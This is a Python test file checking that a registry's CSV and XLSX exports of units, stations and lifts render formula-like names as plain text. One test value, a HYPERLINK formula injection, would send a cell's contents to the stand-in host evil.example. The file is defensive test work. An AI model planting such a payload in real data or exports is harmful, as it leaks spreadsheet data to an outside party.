"""A name typed into the registry never runs as a spreadsheet formula in an export (QA of issue
15's exports: units, stations, lifts): CSV cells starting with = + - @ get an apostrophe, XLSX
cells stay text, both holding the name as typed."""

import csv
import io

from openpyxl import load_workbook

from tests.e2e.registry_helpers import make_station, make_unit

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击 click")'


def test_formula_like_names_are_text_in_csv_and_xlsx(client, views):
    unit = make_unit(client, EVIL)
    make_station(client, unit, "@SUM(1+1)")
    last = client.put(f"/v1/lifts/{'4403' + '0' * 15 + '1'}", json={
        "unit_id": unit, "using_unit": {"code": "U-1", "name": "+1-2"},
        "address": "海德三道 88 号", "district": "南山区"})
    assert last.status_code == 201, last.text
    client.get("/v1/lifts", params={"after": last.json()["notification_id"]})
    for path, typed in (("/v1/units", EVIL), ("/v1/stations", "@SUM(1+1)"),
                        ("/v1/lifts", "+1-2")):
        text = client.get(path, params={"format": "csv"}).content.decode("utf-8-sig")
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert f"'{typed}" in cells and typed not in cells, path
        book = load_workbook(io.BytesIO(client.get(path, params={"format": "xlsx"}).content))
        found = [c for row in book.active.iter_rows(min_row=2) for c in row if c.value == typed]
        assert found and all(c.data_type == "s" for c in found), path
